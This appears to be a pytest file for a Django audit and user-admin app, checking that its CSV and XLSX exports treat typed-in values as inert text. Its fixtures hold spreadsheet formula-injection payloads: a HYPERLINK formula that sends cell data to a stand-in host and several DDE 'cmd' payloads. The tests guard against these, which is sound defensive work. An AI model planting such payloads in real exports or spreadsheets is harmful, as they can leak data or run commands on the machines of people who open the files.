"""The auditor's CSV and XLSX exports carry whatever anyone typed — ids from URLs, justifications, names,
titles — as inert text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from phoihop.access import audit_events as access_events
from phoihop.access.testing import body
from phoihop.audit import registry
from phoihop.audit.services import audit_record
from phoihop.cases import services as case_services
from phoihop.cases.models import Case
from phoihop.core.tests.factories import UserFactory

pytestmark = pytest.mark.django_db

ID = '=HYPERLINK("http://ke-xau.example/?d="&B2,"Xem")'
REASON = "+cmd|' /C calc'!A0"
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "Hồ sơ\x01mật"  # stored before input refused control characters (or through a path no form guards)


@pytest.fixture
def hostile_event(officer):
    """A break-glass whose justification (shown to every auditor) and actor name are formula-like, on an id
    typed into a URL; and a read of a case whose title holds a control character, which the auditor below may
    see."""
    audit_record(
        action=access_events.BREAK_GLASS,
        actor_name=NAME,
        object_type="cases.case",
        object_id=ID,
        reason=REASON,
    )
    case = case_services.case_open(actor=officer, title="Hồ sơ thường")
    Case.objects.filter(pk=case.pk).update(title=TITLE)
    audit_record(action=registry.RECORD_READ, actor=officer, obj=case)
    return case


@pytest.fixture
def auditor(hub):
    """An auditor who is also a hub officer, so the case's title
    is shown beside its event (audit/disclosure.py)."""
    return UserFactory(username="giamsat", agency=hub, roles=["auditor", "officer"], clearance=1)


def test_csv_export_neutralises_formulas(hostile_event, auditor, signed_in):
    response = signed_in(auditor).get("/audit/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(body(response).removeprefix("\ufeff"))))
    row = next(r for r in rows if r["Mã đối tượng"].endswith(ID))
    assert row["Mã đối tượng"] == "'" + ID and row["Lý do"] == "'" + REASON
    assert row["Người thực hiện"] == "'" + NAME
    read = next(r for r in rows if r["Mã đối tượng"] == str(hostile_event.pk))
    assert read["Đối tượng"] == f"{hostile_event.number} — Hồ sơ\u2401mật"


def test_xlsx_export_holds_control_characters_and_no_formula(hostile_event, auditor, signed_in):
    response = signed_in(auditor).get("/audit/export.xlsx")
    assert response.status_code == 200  # was a 500 for every export covering the event
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    column = header.index("Mã đối tượng")
    row = next(r for r in sheet.iter_rows(min_row=2) if r[column].value == ID)
    cells = {name: row[i] for i, name in enumerate(header)}
    for name, value in (("Mã đối tượng", ID), ("Lý do", REASON), ("Người thực hiện", NAME)):
        assert cells[name].data_type == "s" and cells[name].value == value and cells[name].quotePrefix
    read = next(r for r in sheet.iter_rows(min_row=2) if r[column].value == str(hostile_event.pk))
    assert read[header.index("Đối tượng")].value == f"{hostile_event.number} — Hồ sơ\u2401mật"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_user_export_neutralises_names(hub, admin_user, signed_in):
    UserFactory(username="ke.xau", agency=hub, roles=["officer"], full_name="=1+2", position="-3+cmd|'x'!A0")
    client = signed_in(admin_user)
    rows = list(csv.reader(io.StringIO(body(client.get("/admin/users/export.csv")).removeprefix("\ufeff"))))
    row = next(r for r in rows if r[0] == "ke.xau")
    assert row[1:4] == ["'=1+2", "BTC", "'-3+cmd|'x'!A0"]
    sheet = load_workbook(io.BytesIO(client.get("/admin/users/export.xlsx").content)).active
    cells = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "ke.xau")
    assert cells[1].data_type == "s" and cells[1].value == "=1+2" and cells[1].quotePrefix
